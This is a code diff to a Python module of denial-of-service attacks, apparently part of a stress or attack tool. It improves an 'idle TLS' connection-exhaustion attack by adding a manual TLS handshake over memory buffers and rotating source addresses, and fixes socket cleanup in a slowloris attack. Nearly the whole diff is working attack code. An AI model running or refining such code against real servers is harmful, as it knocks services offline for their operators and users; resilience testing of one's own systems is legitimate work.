@@ -93,13 +93,14 @@ def idle_tls(n: int) -> Attack:
     """`n` connections that shake hands and say nothing more."""
 
     def attack(target: Target, over: threading.Event, tally: Tally) -> None:
-        context, held = careless(), list[ssl.SSLSocket]()
+        context, held = careless(), list[socket.socket]()
         for k in range(n):
             if over.is_set():
                 break
             with contextlib.suppress(OSError):
-                plain = open_from(STRANGERS[k % len(STRANGERS)], target.https)
-                held.append(context.wrap_socket(plain))
+                one = open_from(STRANGERS[k % len(STRANGERS)], target.https)
+                held.append(one)
+                shake_hands(context, one)
                 tally.add("idle TLS")
             tally.add("TLS tried")
             time.sleep(0.01)
@@ -108,6 +109,28 @@ def idle_tls(n: int) -> Attack:
             one.close()
 
     return attack
+
+
+def shake_hands(context: ssl.SSLContext, plain: socket.socket) -> None:
+    """TLS by hand: `wrap_socket` leaves a socket open where the other end has gone by then.
+
+    Raises:
+        OSError: the other end refuses, or goes.
+    """
+    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
+    tls = context.wrap_bio(incoming, outgoing)
+    while True:
+        try:
+            tls.do_handshake()
+        except ssl.SSLWantReadError:
+            plain.sendall(outgoing.read())
+            heard = plain.recv(16_384)
+            if not heard:
+                raise ConnectionResetError("closed in the handshake") from None
+            incoming.write(heard)
+        else:
+            plain.sendall(outgoing.read())
+            return
 
 
 def careless() -> ssl.SSLContext:
@@ -145,6 +168,7 @@ def slow_loris(n: int) -> Attack:
                     one.send(b"x")
                     tally.add("slow bytes")
                 except OSError:
+                    one.close()
                     held.remove(one)
         for one in held:
             one.close()
